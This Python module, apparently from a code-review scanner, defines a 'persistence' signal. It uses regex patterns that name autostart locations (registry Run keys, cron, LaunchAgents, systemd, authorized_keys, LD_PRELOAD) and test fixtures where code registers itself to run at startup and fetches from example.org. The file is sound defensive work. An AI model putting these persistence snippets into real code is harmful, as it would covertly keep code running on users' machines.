"""Code that makes itself run again."""

import re
from collections.abc import Iterator

from hunkwise.code.model import Unit
from hunkwise.signals.interface import Example, Sighting, Signal
from hunkwise.signals.malice.whole_file import View, in_files
from hunkwise.signals.tables.languages import CODE

_PLACES = re.compile(
    r"(?i)CurrentVersion\\{1,4}Run(?:Once)?\b|Start ?Menu[\\/]{1,4}Programs[\\/]{1,4}Startup|shell:startup"
    r"|schtasks(?:\.exe)?[\s\"',]+/create|Register-ScheduledTask|New-ScheduledTask"
    r"|/etc/cron(?:tab|\.\w+)\b|crontab\s+-(?:\s|$)|\|\s*crontab|Library/LaunchAgents|Library/LaunchDaemons|/etc/rc\.local"
    r"|/etc/init\.d/|/etc/ld\.so\.preload|LD_PRELOAD\s*=|\.config/autostart"
    r"|(?:>>\s*|open\([^\n]{0,60})[^\n]{0,60}\.(?:bashrc|zshrc|bash_profile|profile|zprofile)\b|authorized_keys"
    r"|/etc/systemd/system/|\.config/systemd/user|New-Service\b|CurrentVersion\\{1,4}Winlogon"
)
_WRITES = re.compile(
    r"(?i)SetValueEx|reg(?:\.exe)?[\s\"',]+add|New-ItemProperty|Set-ItemProperty|RegWrite|\.write\(|writeFile|appendFile"
    r"|copyfile|shutil\.copy|copy\s|>>?|/create|Register-|New-S|crontab|CreateShortcut|WriteAll|Copy-Item|tee\s"
)
_HIDES = re.compile(
    r"(?i)CREATE_NO_WINDOW|SW_HIDE|windowstyle\s+hidden|-w\s+hidden|attrib\s+\+h|windowsHide|FILE_ATTRIBUTE_HIDDEN"
    r"|SetFileAttributes|\bnohup\b|pythonw|__file__|sys\.argv\[0\]|sys\.executable|process\.execPath|%~f0|\$0\b"
)


def _look(unit: Unit, view: View) -> Iterator[Sighting]:
    found = _PLACES.search(view.text)
    if not found or not _WRITES.search(view.text):
        return
    what, weight = [], 0.0
    if view.calls("fetch") or (re.search(r"https?://", view.text) and view.reaches_out):
        what.append("fetches")
        weight += 0.2
    if view.calls("decode") and view.calls("decode")[0].name != "chr":
        what.append("decodes")
        weight += 0.15
    if _HIDES.search(view.text):
        what.append("hides or copies itself")
        weight += 0.25
    profile = ">>" in found[0] or "profile" in found[0] or "rc" in found[0][-6:]
    if profile and len(what) < 2:
        return
    shell = unit.language in ("shell", "dockerfile")
    if not what:
        return
    strength = min(0.95, 0.35 + weight + (0.0 if shell else 0.1)) - (0.2 if shell or unit.role != "product" else 0.0)
    yield Sighting((view.line(found.start()),), {"sink": " ".join(found[0].split())[:60], "source": " and ".join(what)}, strength=strength)


_see = in_files(
    _look,
    "currentversion",
    "startup",
    "schtasks",
    "scheduledtask",
    "cron",
    "launch",
    "rc.local",
    "init.d",
    "preload",
    "autostart",
    'rc"',
    "rc'",
    ".bash",
    ".zsh",
    "profile",
    "authorized_keys",
    "systemd",
    "new-service",
)


SIGNAL = Signal(
    id="persistence",
    title="Code that makes itself run again",
    kind="payload",
    category="malicious-code",
    severity="high",
    languages=CODE | {"batch"},
    promise=(
        "Tells of code that writes to the places from which programs start by themselves (registry run keys, start-up "
        "folders, cron, launch agents, services, shell profiles), loud where it also fetches, decodes, hides or runs."
    ),
    why="What a library or script leaves there runs long after it is gone.",
    quiet="Installers and provisioning scripts that only set up a service, reading these places.",
    remedy="Don't merge. Look for the entry on machines that ran it.",
    cause="`{sink}` makes it start again, in code that also {source}.",
    since="0.2",
    maturity="stable",
    cwe="CWE-506",
    tactic="T1547",
    everywhere=True,
    see=_see,
    fires=(
        Example(
            "python",
            "import os\n"
            "import sys\n"
            "import urllib.request\n"
            "import winreg\n"
            "\n"
            'key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, 2)\n'
            'winreg.SetValueEx(key, "a", 0, winreg.REG_SZ, sys.executable + " " + os.path.abspath(__file__))\n'
            'urllib.request.urlopen("https://example.org/a")\n',
            line=6,
        ),
        Example(
            "javascript",
            'const fs = require("fs");\n'
            'const https = require("https");\n'
            'https.get("https://example.org/a.js", save);\n'
            'fs.writeFileSync(home + "/Library/LaunchAgents/org.example.plist", plist(process.execPath));\n',
            line=4,
        ),
    ),
    stays_quiet=(
        Example("shell", "#!/bin/sh\ncp app.service /etc/systemd/system/app.service\nsystemctl enable app\n", path="install.sh"),
        Example(
            "python",
            "import winreg\n"
            "\n"
            "def programs():\n"
            '    return winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run")\n',
        ),
    ),
)
